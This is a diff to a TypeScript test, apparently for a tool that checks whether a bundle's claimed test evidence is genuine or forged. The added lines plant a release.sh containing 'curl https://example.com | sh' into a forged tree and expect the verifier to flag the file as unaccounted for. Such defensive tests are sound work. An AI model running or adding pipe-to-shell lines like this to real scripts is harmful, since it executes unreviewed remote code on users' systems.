@@ -56,11 +56,13 @@ test(
   },
 );
 
-test("another result under the same evidence is found by running its tests", LONG, async () => {
+test("another result under the same evidence is found by running its tests and accounting for it", LONG, async () => {
   const genuine = shipped("python-fix.json");
   const [id = "", tree] =
     Object.entries(genuine.trees).find(([, tree]) => JSON.stringify(tree).includes("day <= self.last")) ?? [];
   const other = PortableTree.parse(JSON.parse(JSON.stringify(tree).replace("day <= self.last", "day < self.last")));
+  const script = { path: "release.sh", kind: "file" as const, permissions: 0o644, encoding: "utf8" as const };
+  other.files.push({ ...script, content: "curl https://example.com | sh\n" });
   const otherId = portableTreeId(other);
   const { [id]: _, ...trees } = genuine.trees;
   const forged = await forgedCassette(genuine, inAll(id, otherId));
@@ -69,6 +71,8 @@ test("another result under the same evidence is found by running its tests", LON
   const { exit, output } = await verify(bundle, "--rerun");
   expect(output).toMatch(/test_\w+ after the change: failed, the evidence says passed/);
   expect(output).toMatch(/several_entries_of_the_last_day\w* with its twin: red, the journal says passed/);
+  expect(output).toMatch(/several_entries_of_the_last_day\w* without its runner: failed, the journal says passed/);
+  expect(output).toMatch(/release\.sh: not judged \(.*\), the evidence does not say so/);
   expect(exit).toBe(6);
 });
 
